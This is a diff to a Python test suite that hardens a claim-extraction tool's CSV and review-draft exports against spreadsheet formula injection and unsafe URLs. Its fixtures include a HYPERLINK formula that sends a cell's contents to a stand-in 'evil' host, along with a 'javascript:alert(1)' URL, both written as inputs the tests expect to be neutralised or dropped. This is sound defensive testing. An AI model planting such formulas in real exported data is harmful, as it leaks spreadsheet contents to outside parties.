@@ -25,17 +25,22 @@ def claimant(extraction, claim):
     return None if speaker is None else speaker.name
 
 
+def cell(text):
+    """How a text stands in the table: what a spreadsheet would run as a formula has an apostrophe before it."""
+    return f"'{text}" if text[:1] in tuple("=+-@\t\r") else text
+
+
 @given(batches)
 def test_the_table_gives_back_words_places_and_claimants(items):
     rows = list(csv.DictReader(io.StringIO(claim_rows.as_csv(items), newline="")))
     assert len(rows) == len(items)
     for rank, (read, (extraction, claim)) in enumerate(zip(rows, items, strict=True), 1):
         assert tuple(read) == claim_rows.COLUMNS
-        assert read["words"] == claim.text(extraction.document)
-        assert read["claimant"] == (claimant(extraction, claim) or "")
+        assert read["words"] == cell(claim.text(extraction.document))
+        assert read["claimant"] == cell(claimant(extraction, claim) or "")
         assert (int(read["rank"]), int(read["start"]), int(read["end"])) == (rank, claim.spans[0].start, claim.spans[-1].end)
         assert (float(read["check_worthiness"]), read["kind"]) == (claim.check_worthiness, claim.kind)
-        assert (read["document"], read["quote"]) == (extraction.document.id, claim.quote or "")
+        assert (read["document"], read["quote"]) == (cell(extraction.document.id), cell(claim.quote or ""))
 
 
 @given(batches)
@@ -94,6 +99,46 @@ def test_any_words_any_name(text):
     )
     items = [(extraction, extraction.claims[0])]
     (row,) = csv.DictReader(io.StringIO(claim_rows.as_csv(items), newline=""))
-    assert (row["words"], row["claimant"], row["document"]) == (text, text, text)
+    assert (row["words"], row["claimant"], row["document"]) == (cell(text),) * 3
     for written in (claim_rows.as_json_lines(items), claim_review.as_json_lines(items)):
         assert loads(written.removesuffix("\n"))
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_no_cell_is_a_formula(text):
+    extraction = Extraction(Document(text, id=text), claims=[Claim([(0, len(text))], "event", id="c1", check_worthiness=0.5)])
+    table = claim_rows.as_csv([(extraction, extraction.claims[0])])
+    (row,) = csv.DictReader(io.StringIO(table, newline=""))
+    assert (row["document"], row["words"]) == (f"'{text}", f"'{text}")
+    # Numbers stay numbers.
+    assert (row["check_worthiness"], row["start"]) == ("0.5", "0")
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "kept"),
+    [
+        ("url", "https://example.org/a?b=c#d", True),
+        ("url", "http://example.org", True),
+        ("url", "javascript:alert(1)", False),
+        ("url", "data:text/html,x", False),
+        ("url", "//example.org", False),
+        ("url", "https://", False),
+        ("url", "https://[", False),
+        ("url", "https://example.org/ javascript:", False),
+        ("url", "https://example.org/\x1b", False),
+        ("url", 7, False),
+        ("date", "2026-03-02", True),
+        ("date", "2026-03-02T10:30:00+01:00", True),
+        ("date", "2026-03", True),
+        ("date", "2026", True),
+        ("date", "2026-13", False),
+        ("date", "2026-02-30", False),
+        ("date", "yesterday", False),
+        ("date", "٢٠٢٦", False),
+        ("date", None, False),
+    ],
+)
+def test_drafts_take_addresses_and_dates_only(key, value, kept):
+    extraction = Extraction(Document("Ten sank.", metadata={key: value}), claims=[Claim([(0, 9)], "event", id="c1")])
+    appearance = claim_review.draft(extraction, extraction.claims[0])["itemReviewed"]["appearance"]
+    assert appearance.get({"url": "url", "date": "datePublished"}[key]) == (value if kept else None)
